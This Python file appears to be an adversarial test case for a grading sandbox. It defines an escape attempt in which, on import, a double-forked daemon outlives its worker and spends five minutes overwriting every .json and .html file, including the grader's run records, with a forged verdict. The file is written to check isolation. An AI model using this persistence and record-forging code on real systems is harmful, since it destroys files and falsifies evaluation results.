"""Attack: leave a daemon behind that rewrites the run record once the worker is gone.

At import it starts a double-forked, setsid daemon (its command line carries
the token EVILZOO-daemon) that closes its output, waits until its worker is no
longer running, then for five minutes keeps overwriting with a forged verdict
every *.json and *.html it can find, and the record path and decoy report
files of this run that tests/test_evil_zoo.py writes into hints.py (the worst
case: the student knows where the grader writes). A daemon that outlived its
worker would forge every student's grades.

Expected: the worker is its sandbox's pid 1, and when it ends the kernel ends
every process in its namespace: the daemon dies with it, writes nothing, and
no process with the token is left after the session. The detectors are the
honest control's, so every check ends as the control's.
"""
import os
import subprocess
import sys

from honest import isolation_forest_detector, one_class_svm_detector, zscore_detector  # noqa: F401

try:
    from hints import TARGETS  # this run's record path and decoy report files (host paths)
except ImportError:
    TARGETS = []

DAEMON = r"""
import os, sys, time
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
worker, targets = int(sys.argv[2]), sys.argv[3:]
forged = b'{"schema": "labmark.run/1", "submissions": {}, "forged_by": "EVILZOO-daemon"}'
def alive(pid):
    try:
        os.kill(pid, 0)
        return True
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
deadline = time.time() + 300
while alive(worker) and time.time() < deadline:
    time.sleep(0.1)
found = list(targets)
for top in ("/", "/tmp", "/labmark"):
    for root, dirs, files in os.walk(top):
        if root.startswith(("/proc", "/sys", "/dev", "/usr")):
            dirs[:] = []
        found += [os.path.join(root, f) for f in files if f.endswith((".json", ".html"))]
while time.time() < deadline:
    for path in found:
        try:
            with open(path, "wb") as f:
                f.write(forged)
        except OSError:
            pass
    time.sleep(0.5)
"""

if os.getpid() != 1:  # never outside a sandbox: there it would rewrite this machine's files
    raise RuntimeError("EVILZOO daemon_rewrites_record: not in a sandbox (pid != 1); refusing to attack this machine")
subprocess.Popen([sys.executable, "-c", DAEMON, "EVILZOO-daemon", str(os.getpid()), *TARGETS],
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
print("EVILZOO daemon_rewrites_record: daemon started")
